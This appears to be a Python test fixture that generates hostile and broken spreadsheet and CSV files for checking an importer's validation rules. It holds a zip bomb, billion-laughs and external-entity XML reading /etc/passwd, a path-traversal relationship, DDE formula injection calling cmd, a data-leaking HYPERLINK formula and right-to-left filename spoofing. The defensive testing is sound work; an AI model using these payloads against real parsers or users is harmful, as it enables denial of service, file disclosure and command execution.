"""Hostile and broken files, made by code. Nothing in them was ever reported by anyone."""

import io
import zipfile
from collections.abc import Callable

import xlsxwriter

HEADER = "source_id,publisher,title,licence,citation,cadence_days"
ROW = "made_up,Publisher,Title,None,Made up,7"
OTHER = "made_up_2,Publisher,Title,None,Made up,7"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = "xl/worksheets/sheet1.xml"
Make = Callable[[], bytes]


def plain(*lines: str, end: str = "\n", encoding: str = "utf-8") -> bytes:
    return end.join([*lines, ""]).encode(encoding)


def with_value(value: str, column: int = 1) -> bytes:
    """A row that is sound but for one value, quoted."""
    cells = ROW.split(",")
    cells[column] = '"' + value.replace('"', '""') + '"'
    return plain(HEADER, ",".join(cells))


def workbook(*lines: str, sheet: str = "sources", **options: object) -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True, **options}) as book:
        page = book.add_worksheet(sheet)
        for row, line in enumerate(lines or (HEADER, ROW)):
            for place, text in enumerate(line.split(",")):
                page.write_string(row, place, text)
    return made.getvalue()


def repacked(change: Callable[[dict[str, bytes]], None], content: bytes | None = None) -> bytes:
    """A sound workbook whose parts were changed."""
    with zipfile.ZipFile(io.BytesIO(content or workbook())) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    change(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, part in parts.items():
            packed.writestr(name, part)
    return made.getvalue()


def replaced(part: str, old: bytes, new: bytes) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[part]
        parts[part] = parts[part].replace(old, new, 1)

    return repacked(change)


def added(part: str, content: bytes) -> bytes:
    return repacked(lambda parts: parts.update({part: content}))


def without(part: str) -> bytes:
    return repacked(lambda parts: parts.pop(part) and None)


def sheet_of(rows: bytes) -> bytes:
    """A workbook whose only sheet has these rows, as XML."""
    page = b'<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (MAIN.encode(), rows)
    return repacked(lambda parts: parts.update({SHEET: page}))


def cell(at: str, text: str) -> bytes:
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def header_cells(row: int) -> bytes:
    return b"".join(cell(f"{'ABCDEF'[n]}{row}", name) for n, name in enumerate(HEADER.split(",")))


def with_formula(formula: str, value: object) -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        page = book.add_worksheet("sources")
        for row, line in enumerate((HEADER, ROW)):
            page.write_row(row, 0, line.split(","))
        page.write_formula(1, 5, formula, None, value)
    return made.getvalue()


def entities(declared: str) -> bytes:
    doctype = f"<!DOCTYPE worksheet [{declared}]>".encode()
    return replaced(SHEET, b"<worksheet", doctype + b"<worksheet")


def laughs() -> bytes:
    names = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return entities('<!ENTITY l0 "ha">' + "".join(names))


def bomb() -> bytes:
    """A sheet that unfolds to a thousand times its size."""
    return added("xl/worksheets/sheet2.xml", b" " * (300 * 2**20))


def nested() -> bytes:
    inside = io.BytesIO()
    with zipfile.ZipFile(inside, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("zeros", b"\0" * (64 * 2**20))
    return added("xl/embeddings/inner.zip", inside.getvalue())


def many_parts() -> bytes:
    return repacked(lambda parts: parts.update({f"xl/media/{n}.bin": b"" for n in range(20_000)}))


def wide_workbook() -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        page = book.add_worksheet("sources")
        for place in range(16_384):
            page.write_string(0, place, f"column {place}")
    return made.getvalue()


def empty_rows() -> bytes:
    """Sound rows, and a million empty ones below that a program formatted."""
    rows = b"".join(b'<row r="%d"/>' % row for row in range(2, 1_048_577))
    return sheet_of(b'<row r="1">' + header_cells(1) + b"</row>" + rows)


def two_tables() -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        for name in ("sources", "again"):
            page = book.add_worksheet(name)
            for row, line in enumerate((HEADER, ROW)):
                page.write_row(row, 0, line.split(","))
    return made.getvalue()


def hidden_and_merged() -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        book.add_worksheet("notes").merge_range("A1:D4", "read me")
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": "=sources!$F$2:$F$2"})
        book.add_chartsheet("chart").set_chart(chart)
        page = book.add_worksheet("sources")
        for row, line in enumerate((HEADER, ROW)):
            page.write_row(row, 0, line.split(","))
        book.add_worksheet("hidden").hide()
    return made.getvalue()


def archive(name: str, content: bytes = b"made up") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr(name, content)
    return made.getvalue()


def password() -> bytes:
    """The beginning of an encrypted workbook: a compound file that names its package."""
    magic = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    return magic + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 1000


def all_wrong() -> bytes:
    return plain(HEADER, *(f"bad id {n},P,T,L,C,{n}x" for n in range(50_000)))


# What a file is called, how it is made, and the rules that must be among its problems; "read" is
# a file that is unusual and sound.
FILES: dict[str, tuple[str, Make, set[str]]] = {
    "a zip bomb": ("a.xlsx", bomb, {"workbook_too_large"}),
    "a zip in a zip": ("a.xlsx", nested, {"read"}),
    "twenty thousand parts": ("a.xlsx", many_parts, {"read"}),
    "a cell in the last corner": (
        "a.xlsx",
        lambda: sheet_of(b'<row r="1048576">' + cell("XFD1048576", "x") + b"</row>"),
        {"workbook_too_large"},
    ),
    "a row beyond the last": (
        "a.xlsx",
        lambda: sheet_of(b'<row r="99999999">' + cell("A99999999", "x") + b"</row>"),
        {"workbook_too_large", "damaged_workbook", "unknown_format"},
    ),
    "a row before the first": (
        "a.xlsx",
        lambda: sheet_of(b'<row r="-5">' + cell("A-5", "x") + b"</row>"),
        {"damaged_workbook", "unknown_format"},
    ),
    "a billion laughs": ("a.xlsx", laughs, {"has_entities"}),
    "an external entity": (
        "a.xlsx",
        lambda: entities('<!ENTITY x SYSTEM "file:///etc/passwd">'),
        {"has_entities"},
    ),
    "entities in shared texts": (
        "a.xlsx",
        lambda: replaced("xl/sharedStrings.xml", b"<sst", b"<!DOCTYPE sst []><sst"),
        {"has_entities"},
    ),
    "16,384 columns in a workbook": ("a.xlsx", wide_workbook, {"unknown_column"}),
    "16,384 columns in a plain file": (
        "a.csv",
        lambda: plain(",".join(f"column {n}" for n in range(16_384))),
        {"unknown_format"},
    ),
    "a million empty rows": ("a.xlsx", empty_rows, {"no_rows"}),
    "a million empty lines": ("a.csv", lambda: plain(HEADER, ROW) + b"\n" * 10**6, {"read"}),
    "a formula with its value": ("a.xlsx", lambda: with_formula("=3+4", 7), {"read"}),
    "a formula without its value": ("a.xlsx", lambda: with_formula("=3+4", ""), {"read"}),
    "a formula that failed": ("a.xlsx", lambda: with_formula("=1/0", "#DIV/0!"), {"formula_error"}),
    "a formula that calls a program": (
        "a.xlsx",
        lambda: with_formula("=cmd|'/C calc'!A0", "x"),
        {"whole"},
    ),
    "a link to another workbook": (
        "a.xlsx",
        lambda: added("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        {"read"},
    ),
    "macros": ("a.xlsm", lambda: added("xl/vbaProject.bin", b"made up"), {"has_macros"}),
    "Windows-1252": (
        "a.csv",
        lambda: plain(HEADER, ROW.replace("Title", "Médecins"), encoding="cp1252"),
        {"encoding"},
    ),
    "UTF-16 with its mark": ("a.csv", lambda: plain(HEADER, ROW, encoding="utf-16"), {"read"}),
    "UTF-16 without its mark": (
        "a.csv",
        lambda: plain(HEADER, ROW, encoding="utf-16-le"),
        {"read"},
    ),
    "UTF-32": ("a.csv", lambda: plain(HEADER, ROW, encoding="utf-32"), {"not_text"}),
    "UTF-8 cut within a letter": (
        "a.csv",
        lambda: plain(HEADER, ROW.replace("Title", "Titleé"))[:-20] + b"\xc3",
        {"encoding", "row_short"},
    ),
    "Cyrillic in Windows-1251": (
        "a.csv",
        lambda: plain(HEADER, ROW.replace("Title", "Заголовок"), encoding="cp1251"),
        {"encoding"},
    ),
    "NUL bytes": ("a.csv", lambda: with_value("a\0b"), {"not_text"}),
    "an open quote at the start": ("a.csv", lambda: plain(HEADER, '"made_up,P', ROW), {"quote"}),
    "an open quote in the middle": (
        "a.csv",
        lambda: plain(HEADER, ROW, 'made_up_2,"P,T,L,C,7', *[OTHER] * 5),
        {"quote"},
    ),
    "an open quote at the end": ("a.csv", lambda: plain(HEADER, ROW + '"'), {"quote"}),
    "an open quote in the header": ("a.csv", lambda: plain('"' + HEADER, ROW), {"quote"}),
    "a quote within a value": (
        "a.csv",
        lambda: plain(HEADER, ROW.replace("Title", 'Ti"tle')),
        {"quote"},
    ),
    "a header twice": (
        "a.csv",
        lambda: plain(HEADER + ",title", ROW + ",Other"),
        {"duplicate_column"},
    ),
    "a header twice in a workbook": (
        "a.xlsx",
        lambda: workbook(HEADER + ",title", ROW + ",Other"),
        {"duplicate_column"},
    ),
    "a blank header": ("a.csv", lambda: plain(HEADER + ",", ROW + ",x"), {"header_blank"}),
    "a header and nothing below": ("a.csv", lambda: plain(HEADER), {"no_rows"}),
    "blanks only": ("a.csv", lambda: b" \n\t\n" * 100, {"empty_file"}),
    "commas only": ("a.csv", lambda: plain(*[",,,,,"] * 9), {"unknown_format"}),
    "nothing": ("a.csv", lambda: b"", {"empty_file"}),
    "a header in row 40": (
        "a.csv",
        lambda: plain(*["made up"] * 39, HEADER, ROW),
        {"unknown_format", "not_confirmed"},
    ),
    "a program call": ("a.csv", lambda: with_value("=cmd|' /C calc'!A0"), {"formula_text"}),
    "a sum": ("a.csv", lambda: with_value("@SUM(A1:A9)"), {"formula_text"}),
    "a call behind a plus": ("a.csv", lambda: with_value("+1+cmd|' /C x'!A0"), {"formula_text"}),
    "a call behind a minus": ("a.csv", lambda: with_value("-2+3+cmd|'x'!A0"), {"formula_text"}),
    "a link that leaks": (
        "a.csv",
        lambda: with_value('=HYPERLINK("https://example.org?"&A1,"x")'),
        {"formula_text"},
    ),
    "text turned right to left": (
        "a.csv",
        lambda: with_value("exe.\u202efdp"),
        {"invisible_characters"},
    ),
    "an isolate that stays open": (
        "a.csv",
        lambda: with_value("a\u2066b"),
        {"invisible_characters"},
    ),
    "a space without width": (
        "a.csv",
        lambda: with_value("Pub\u200blisher"),
        {"invisible_characters"},
    ),
    "a bell": ("a.csv", lambda: with_value("a\x07b"), {"invisible_characters"}),
    "200 MB in one line": ("a.csv", lambda: b"x" * (200 * 2**20 + 1), {"file_too_large"}),
    "200 MB of lines": (
        "a.csv",
        lambda: plain(HEADER) + (ROW.encode() + b"\n") * (200 * 2**20 // 38 + 200_000),
        {"file_too_large"},
    ),
    "a value of a megabyte": ("a.csv", lambda: with_value("P" * 2**20), {"read"}),
    "a header of ten megabytes": (
        "a.csv",
        lambda: plain(HEADER + "," + "x" * (10 * 2**20), ROW + ",1"),
        {"unknown_column"},
    ),
    "every value wrong": ("a.csv", all_wrong, {"code", "whole", "more_of_the_same"}),
    "a number of 400 digits": ("a.csv", lambda: with_value("9" * 400, 5), {"whole_too_large"}),
    "semicolons": ("a.csv", lambda: plain(HEADER, ROW).replace(b",", b";"), {"read"}),
    "every line end there is": (
        "a.csv",
        lambda: f"{HEADER}\r\n{ROW}\n{OTHER}\r".encode(),
        {"read"},
    ),
    "lone carriage returns": ("a.csv", lambda: plain(HEADER, ROW, end="\r"), {"read"}),
    "a short line": ("a.csv", lambda: plain(HEADER, ROW, "made_up_2,Only"), {"row_short"}),
    "a long line": ("a.csv", lambda: plain(HEADER, ROW, OTHER + ",8,9"), {"row_long"}),
    "two sheets of one table": ("a.xlsx", two_tables, {"second_sheet_of_table"}),
    "hidden, merged and chart sheets": ("a.xlsx", hidden_and_merged, {"sheet_left_out"}),
    "a workbook cut off": ("a.xlsx", lambda: workbook()[:-300], {"damaged_workbook"}),
    "a workbook with holes": (
        "a.xlsx",
        lambda: workbook()[:900] + b"\0" * 200 + workbook()[1100:],
        {"damaged_workbook"},
    ),
    "a password": ("a.xlsx", password, {"is_encrypted"}),
    "an old workbook": (
        "a.xls",
        lambda: password().replace("Encrypted".encode("utf-16-le"), b""),
        {"is_old_workbook"},
    ),
    "a text document": (
        "a.docx",
        lambda: archive("word/document.xml", b"<w/>"),
        {"not_a_workbook"},
    ),
    "an open document": ("a.ods", lambda: archive("content.xml", b"<o/>"), {"not_a_workbook"}),
    "a zip of a plain file": (
        "a.zip",
        lambda: archive("a.csv", plain(HEADER, ROW)),
        {"not_a_workbook"},
    ),
    "a web page named .xls": (
        "a.xls",
        lambda: b"<html><table><tr><td>1</td></tr></table></html>",
        {"is_web_page"},
    ),
    "JSON named .csv": (
        "a.csv",
        lambda: b'{"source_id": "made_up", "title": 7}',
        {"no_records"},
    ),
    "a PDF": ("a.xlsx", lambda: b"%PDF-1.7\nmade up", {"is_pdf"}),
    "a picture": ("a.csv", lambda: b"\x89PNG\r\n\x1a\n made up", {"is_picture"}),
    "no shared texts": ("a.xlsx", lambda: without("xl/sharedStrings.xml"), {"damaged_workbook"}),
    "no workbook in the workbook": (
        "a.xlsx",
        lambda: without("xl/workbook.xml"),
        {"not_a_workbook"},
    ),
    "relations that lead nowhere": (
        "a.xlsx",
        lambda: replaced("xl/_rels/workbook.xml.rels", b"worksheets/sheet1", b"worksheets/sheet9"),
        {"damaged_workbook", "unknown_format"},
    ),
    "relations that lead out": (
        "a.xlsx",
        lambda: replaced(
            "xl/_rels/workbook.xml.rels", b"worksheets/sheet1.xml", b"../../../etc/passwd"
        ),
        {"damaged_workbook", "unknown_format"},
    ),
    "XML that does not end": (
        "a.xlsx",
        lambda: replaced(SHEET, b"</worksheet>", b""),
        {"damaged_workbook", "read"},
    ),
}
